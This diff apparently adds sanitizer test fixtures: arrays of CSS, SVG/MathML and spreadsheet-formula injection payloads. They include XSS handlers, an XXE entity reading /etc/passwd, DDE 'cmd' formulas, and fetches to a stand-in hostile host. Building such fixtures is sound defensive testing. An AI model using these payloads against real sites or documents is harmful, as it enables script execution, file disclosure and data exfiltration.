@@ -1,0 +1,61 @@
+/** What style sheets and attributes would take for a rule of theirs. */
+export const STYLES: readonly string[] = [
+  "<style>*{display:none}</style>",
+  "<style>@import 'https://hostile.invalid/x.css';</style>",
+  '" style="position:fixed;inset:0;background:red',
+  "x;background:url(https://hostile.invalid/x.png)",
+  "url(javascript:hit=1)",
+  "expression(hit=1)",
+  "} * { display: none } .x {",
+  "--dl-ink: red; } :host { display: none",
+  "</style><script>hit=1</script>",
+  "behavior:url(#default#time2)",
+  "-moz-binding:url(https://hostile.invalid/x.xml#x)",
+  "var(--x, url(https://hostile.invalid/x.png))",
+  "\\3c img src=x onerror=hit=1\\3e",
+  "@font-face{src:url(https://hostile.invalid/x.woff)}",
+];
+
+/** What drawings would run or fetch. */
+export const DRAWINGS: readonly string[] = [
+  "<svg onload=hit=1>",
+  "<svg/onload=hit=1>",
+  "<svg><script>hit=1</script></svg>",
+  "<svg><script href=data:,hit=1 />",
+  "<svg><a xlink:href=javascript:hit=1><text y=20>here</text></a>",
+  "<svg><animate onbegin=hit=1 attributeName=x dur=1s>",
+  "<svg><set attributeName=href to=javascript:hit=1>",
+  "<svg><use href=https://hostile.invalid/x.svg#x>",
+  "<svg><image href=https://hostile.invalid/x.png>",
+  "<svg><foreignObject><iframe src=javascript:parent.hit=1>",
+  "<svg><style>@import url(https://hostile.invalid/x.css)</style>",
+  "<svg><title><img src=x onerror=hit=1></title>",
+  "</text></svg><script>hit=1</script>",
+  '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
+  "<math><mtext><mglyph><style><img src=x onerror=hit=1>",
+  "<math href=javascript:hit=1>x</math>",
+];
+
+/** What spreadsheets would run. */
+export const FORMULAS: readonly string[] = [
+  "=1+1",
+  '=HYPERLINK("https://hostile.invalid/","here")',
+  "=cmd|'/C calc'!A0",
+  '=IMPORTXML("https://hostile.invalid/","//a")',
+  '=WEBSERVICE("https://hostile.invalid/")',
+  "+1+1",
+  "+cmd|'/C calc'!A0",
+  "-2+3+cmd|'/C calc'!A0",
+  "-1 year",
+  "@SUM(1+1)",
+  "@import",
+  "＝1+1",
+  "＋1",
+  "－1+1",
+  "＠SUM(1)",
+  "\t=1+1",
+  "\r=1+1",
+  " =1+1",
+  '"=1+1"',
+  ",=1+1",
+];
